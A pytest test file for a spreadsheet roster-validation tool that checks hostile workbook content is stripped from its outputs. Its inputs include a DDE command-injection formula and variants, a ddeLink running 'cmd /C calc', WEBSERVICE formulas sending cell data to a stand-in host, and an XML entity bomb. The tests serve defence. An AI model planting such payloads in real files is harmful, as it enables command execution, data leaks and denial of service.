"""No formula, link, name or rule of a sender's lives on under our name."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.formatting.rule import CellIsRule, FormulaRule
from openpyxl.packaging.custom import StringProperty
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.hyperlink import Hyperlink

from batch.errors import UnreadableFileError
from batch.sheets.ooxml.ranges import covered_cells
from tests.here import SOAK, few
from tests.strangers.attack import HEADERS, contents, person, rewritten, roster, run

pytestmark = pytest.mark.usefixtures("here")

LIVE = "=cmd|'/C calc'!A0"
#: Texts that begin with a formula once what is not allowed, or not seen, has gone.
TEXTS = [LIVE, "\uffff" + LIVE, "_x0001_" + LIVE, "\ufffe=1+1", "_xFFFF_=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "＝1+1",
         "{=1+1}", '=HYPERLINK("http://x")', "\r=1+1"]  # fmt: skip


def _formulas(path: Path) -> list[tuple[str, str]]:
    """Every formula of a workbook, as the file itself has it, with the part it stands in."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                text = archive.read(name).decode("utf-8")
                found += [(name, one) for one in re.findall(r"<f\b[^>]*>([^<]*)</f>", text)]
    return found


def _results(out: Path) -> list[Path]:
    books = sorted(out.rglob("*.xlsx"))
    assert len(books) >= 2
    return books


@pytest.mark.parametrize(
    "column", few(["姓名", "单位名称", "现岗位职业（工种）", "技能等级", "荣誉奖项", "工号"], 3)
)
def test_texts_stay_texts(column: str, tmp_path: Path) -> None:
    """In the results and in the returned roster, whatever they begin with."""
    rows = [person(number, f"某{number}", **{column: text}) for number, text in enumerate(TEXTS, start=1)]
    wrong = person(99, "某错", 技能等级="不知道的等级")
    file, out = roster(tmp_path / "a.xlsx", *rows, wrong), tmp_path / "out"
    assert run(file, "--out", out) in (0, 1)
    for book in _results(out):
        for part, formula in _formulas(book):
            assert re.fullmatch(r"HYPERLINK\(\"#'[^'\[\]|]+'!A\d+\",\"[^\"=|]*\"\)", formula), (
                book,
                part,
                formula,
            )


def _living(path: Path) -> Path:
    """A workbook with everything that can live in one."""
    book = openpyxl.Workbook()
    page: Any = book.active
    page.title = "人员"
    page.append(HEADERS)
    page.append(person(1, "某甲", 技能等级='="技"&"师"', 荣誉奖项='=WEBSERVICE("http://x/"&B2)'))
    page.append(person(2, "某乙", 技能等级="不知道"))
    page["B3"].hyperlink = Hyperlink(ref="B3", target="http://example.invalid/x", location="")
    page["C3"].hyperlink = Hyperlink(ref="C3", location="'人员'!A1", display="回")
    page["D3"].hyperlink = "file://///server/share/x.xlsx"
    for name, reference in (("外", "'[1]外'!$A$1"), ("内", "'人员'!$A$1:$A$3"), ("话", 'CALL("u","v")')):
        book.defined_names[name] = DefinedName(name, attr_text=reference)
    for formula, place in (("'[x.xlsx]S'!$A$1:$A$3", "F2"), ("=INDIRECT($A$1)", "G2"), ('"企业,机关"', "H2"), ("=内", "I2"),
                           ("'人员'!$A$1:$A$3", "J2"), ("=外", "K2")):  # fmt: skip
        rule = DataValidation("list", formula)
        rule.add(place)
        page.add_data_validation(rule)
    page.conditional_formatting.add("A1:A9", FormulaRule(['WEBSERVICE("http://x")=1']))
    page.conditional_formatting.add("B1:B9", FormulaRule(["LEN(B1)>3"]))
    page.conditional_formatting.add("C1:C9", CellIsRule("greaterThan", ["'[1]S'!A1"]))
    hidden = book.create_sheet("藏")
    hidden["A1"] = "=1+1"
    hidden.sheet_state = "veryHidden"
    book.properties.creator, book.properties.title = "某人", "内部"
    book.custom_doc_props.append(StringProperty(name="密级", value="绝密"))  # type: ignore[attr-defined]
    book.save(path)

    def with_link(name: str, data: bytes) -> bytes:
        if name == "xl/_rels/workbook.xml.rels":
            link = (b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                    b'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')  # fmt: skip
            return data.replace(b"</Relationships>", link)
        if name == "xl/workbook.xml":
            refs = (b'<externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
                    b'2006/relationships" r:id="rIdX"/></externalReferences><definedNames>')  # fmt: skip
            return data.replace(b"<definedNames>", refs)
        return data

    rewritten(path, path, with_link)
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(
            "xl/externalLinks/externalLink1.xml",
            f'<externalLink xmlns="{main}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
        )
    return path


def test_the_returned_roster_holds_values_and_looks_only(tmp_path: Path) -> None:
    """What was taken out is said on its first sheet; what is harmless stays."""
    file, out = _living(tmp_path / "a.xlsx"), tmp_path / "out"
    assert run(file, "--out", out) in (0, 1)
    (path,) = out.glob("校验退回_*.xlsx")
    assert _formulas(path) == []
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    assert not [
        name for name in parts if "external" in name.lower() or "vba" in name or "custom" in name.lower()
    ]
    whole = "\n".join(parts.values())
    for word in (
        'TargetMode="External"',
        "WEBSERVICE",
        "INDIRECT",
        "CALL(",
        "[1]",
        "[x.xlsx]",
        "ddeLink",
        "某人",
        "绝密",
        "内部",
    ):
        assert word not in whole, word
    book = openpyxl.load_workbook(path)
    assert {page.sheet_state for page in book.worksheets} == {"visible"}
    assert set(book.defined_names) == {"内"}
    page: Any = book["人员"]
    lists = {str(one.sqref): one.formula1 for one in page.data_validations.dataValidation}
    assert set(lists) == {"H2", "I2", "J2"}
    assert [str(area.sqref) for area in page.conditional_formatting] == ["B1:B9"]
    assert page["C3"].hyperlink.location == "'人员'!A1"
    assert book.properties.creator == "贯通"
    first = " ".join(str(cell.value) for row in book["校验问题"]["A1:A3"] for cell in row)
    for said in (
        "公式3个",
        "外部链接2个",
        "名称2个",
        "下拉或校验3个",
        "条件格式2个",
        "隐藏的工作表1个",
        "#N/A",
    ):
        assert said in first, (said, first)
    assert page["J2"].value == "#N/A"  # never computed, so never a blank
    assert page["J2"].data_type == "e"


@pytest.mark.parametrize("tag", few([
    b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
    b'<mergeCells><x:mergeCell xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    b" ref='A1:XFD1048576' /></mergeCells>",
    b'<autoFilter ref="A1:XFD1048576"/>',
    b'<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>',
    b'<hyperlinks>' + b'<hyperlink ref="A1:A1048576" location="A1"/>' * 900 + b'</hyperlinks>',
], 3))  # fmt: skip
def test_ranges_beyond_the_cells_cost_nothing(tag: bytes, tmp_path: Path) -> None:
    """A few bytes that mean 17 billion cells: the roster is worked and returned all the same."""
    plain = roster(tmp_path / "p.xlsx", person(1, "某甲"), person(2, "某乙", 技能等级="不知道"))

    def widen(name: str, data: bytes) -> bytes:
        return data.replace(b"</sheetData>", b"</sheetData>" + tag) if name.endswith("sheet1.xml") else data

    file = rewritten(plain, tmp_path / "a.xlsx", widen)
    out = tmp_path / "out"
    assert run(file, "--out", out) == 0
    assert len(list(out.glob("校验退回_*.xlsx"))) == 1


def test_entities_are_refused_where_ranges_are_counted(tmp_path: Path) -> None:
    """No part may define words of its own that grow."""
    bomb = b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet/>'
    file = rewritten(
        roster(tmp_path / "a.xlsx"),
        tmp_path / "b.xlsx",
        lambda name, data: bomb if name.endswith("sheet1.xml") else data,
    )
    with pytest.raises(UnreadableFileError):
        covered_cells(file, 10)


@pytest.mark.slow
def test_many_merged_rows_are_marked_at_once(tmp_path: Path) -> None:
    """Very many merged faulty rows: each cell is looked up once, not held against every range."""
    many = 2000 if SOAK else 200
    rows = [person(number, f"某{number}", 技能等级="不知道") for number in range(many)]
    plain = roster(tmp_path / "p.xlsx", *rows)
    merges = b"".join(b'<mergeCell ref="J%d:K%d"/>' % (row, row) for row in range(2, many + 2))

    def merge(name: str, data: bytes) -> bytes:
        return (
            data.replace(b"</sheetData>", b"</sheetData><mergeCells>" + merges + b"</mergeCells>")
            if "sheet1" in name
            else data
        )

    out = tmp_path / "out"
    assert run(rewritten(plain, tmp_path / "a.xlsx", merge), "--out", out, "--notices", "不出") == 0
    book = openpyxl.load_workbook(next(out.glob("校验退回_*.xlsx")))
    assert sum(cell.comment is not None for (cell,) in book["人员"][f"J2:J{many + 1}"]) == many


def test_a_link_with_quotation_marks_is_whole(tmp_path: Path) -> None:
    """The text of our own links is cut before its quotation marks are doubled, never between."""
    from batch.report.excel.fields import Link

    for length in range(100, 130):
        formula = Link("a" * length + '"' * 30, "政策依据", 2).formula
        text = formula.split('",', 1)[1]
        assert text.count('"') % 2 == 0
        assert len(text) <= 257


def test_our_own_results_are_unchanged_by_all_this(tmp_path: Path) -> None:
    """A healthy roster: its results hold our own links only."""
    out = tmp_path / "out"
    assert run(roster(tmp_path / "a.xlsx"), "--out", out) == 0
    assert all(formula.startswith("HYPERLINK(\"#'") for _, formula in _formulas(out / "筛查结果.xlsx"))
    assert "校验退回" not in "".join(contents(out))
